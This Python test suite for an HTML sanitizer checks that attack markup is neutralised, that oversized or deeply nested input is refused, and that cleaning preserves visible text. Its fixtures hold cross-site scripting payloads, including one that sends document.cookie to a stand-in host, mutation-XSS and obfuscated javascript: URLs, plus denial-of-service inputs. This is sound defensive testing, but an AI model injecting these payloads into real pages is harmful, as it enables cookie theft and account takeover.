"""Nothing that attacks comes through, nothing that would take long is begun, whatever comes."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from articles.text import sanitizer
from articles.text.policy import POLICY
from tests import outside

from .cleaning import cleaned

# The corpus


@pytest.fixture(scope="module")
def corpus():
    return outside.attacks()


def test_every_attack_of_the_corpus_is_made_inert(corpus, problems):
    assert [(attack, found) for attack in corpus if (found := problems(cleaned(attack)))] == []


def test_cleaning_the_corpus_twice_changes_nothing_more(corpus):
    once = [cleaned(attack) for attack in corpus]
    assert [cleaned(html) for html in once] == once


ATTACKS = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='java\u200bscript:alert(1)'>中文</a>",
    "<a href=' java\tscript:alert(1)'>العربية</a>",
    "<a href='&#x6A;avascript:alert(1)'>News</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>News</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:1>Go</button>",
    "<p style='position:fixed;inset:0'>Cover</p><link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</div></body><script>alert(1)</script>",
    "<h2 id=location name=location>Clobbered</h2>",
    "<textarea></textarea><script>alert(1)</script>",
    "<x-widget onclick=alert(1)>Widget</x-widget><base href=//evil.example/>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_of_our_own_is_made_inert(attack, problems):
    assert problems(cleaned(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_bleach_and_nh3_alone_would_make_it_inert_too(attack, problems):
    assert problems(sanitizer.judge(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_executable_is_left_of_an_attack(attack):
    left = cleaned(attack).lower()
    assert not re.search(r"<[^>]*\son\w+=|<script|<style|<svg|<iframe|<form|javascript:|data:", left)


# Too much


@pytest.mark.parametrize(
    ("html", "reason"),
    [
        ("<div>" * 5_000, "elements open at once"),
        ("&" * 1_000_000, "escaped characters"),
        ("<!--" * 250_000, "tags"),
        ("<" * 1_000_000, "tags"),
        ("<a " * 300_000, "tags"),
        ("<b>" * 100_000, "tags"),
        ("<p>" + "".join(f"<font color={n}>" for n in range(400)) + "<p>x" * 2_000, "reopened"),
        ("<a " + " ".join(f"a{n}" for n in range(100_000)) + ">", "attributes in one tag"),
        ("<a x='<' " + " ".join(f"a{n}='<'" for n in range(9_000)) + ">", "attributes in one tag"),
        ("<table><tr><td>" * 180, "elements inside each other"),
        ("x" * 2_000_001, "characters"),
        ("<p>x" * 11_000, "tags"),
    ],
    ids=lambda value: value[:12],
)
def test_markup_that_would_take_long_is_refused_with_its_reason(html, reason):
    with pytest.raises(sanitizer.TooComplex, match=f"More than [0-9,]+ .*{reason}"):
        sanitizer.clean(html)


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 400 + "x" + "</div>" * 400,
        "<p title='" + "x" * 1_000_000 + "'>x</p>",
        "<a name=n>x" * 3_000,
        "<ul>" + "<li>x" * 3_000,
        "x " * 500_000,
        "<p><a href='https://example.org/?a=1&b=2'>x</a></p>" * 2_000,
    ],
    ids=lambda value: value[:12],
)
def test_long_but_honest_markup_is_cleaned(html):
    assert "x" in cleaned(html)


# Whatever comes


TAGS = st.sampled_from(sorted({*POLICY.elements, *POLICY.renamed, *POLICY.dropped, "font", "x-y", "body"}))
ATTRIBUTES = st.sampled_from(
    [
        "",
        " id=a",
        " href=#a",
        " href='java\tscript:x'",
        " src=//example.org/a.png",
        " src=https://youtu.be/abc",
        " style=x",
        " onclick=x",
        " lang=ar dir=rtl",
        ' title="</p><script>"',
        " class='gallery z'",
        " colspan=2",
    ]
)
TEXTS = st.sampled_from(
    [
        "半岛新闻",
        "خبر",
        "news",
        "\n",
        " ",
        "&",
        "&lt;",
        "&nbsp;",
        "<",
        "-->",
        "<!--",
        "]]>",
        '"',
        "'",
        "&#13;",
        "\x0c",
    ]
)
OPENINGS = st.builds("<{}{}>".format, TAGS, ATTRIBUTES)
CLOSINGS = st.builds("</{}>".format, TAGS)
MARKUP = st.lists(st.one_of(OPENINGS, CLOSINGS, TEXTS), max_size=20).map("".join)


@given(st.one_of(MARKUP, st.text()))
@example("<p><option><div></p>")
def test_cleaning_what_is_clean_changes_nothing(html):
    clean = cleaned(html)
    assert sanitizer.clean(clean) == sanitizer.Cleaned(clean, {})


@given(st.one_of(MARKUP, st.text()))
def test_nothing_unsafe_comes_out_whatever_goes_in(problems, html):
    assert problems(cleaned(html)) == []


@given(st.one_of(MARKUP, st.text()))
def test_visible_text_is_kept_whatever_the_markup(html):
    before = "".join(sanitizer.plain_text(html).split())
    after = "".join(sanitizer.plain_text(without_cards(cleaned(html))).split())
    assert after == before


def without_cards(html):
    """Take out the links that stand for players: they add text of ours."""
    return re.sub(r'<p class="embed-card">.*?</p>|<a class="embed-card".*?</a>', "", html)
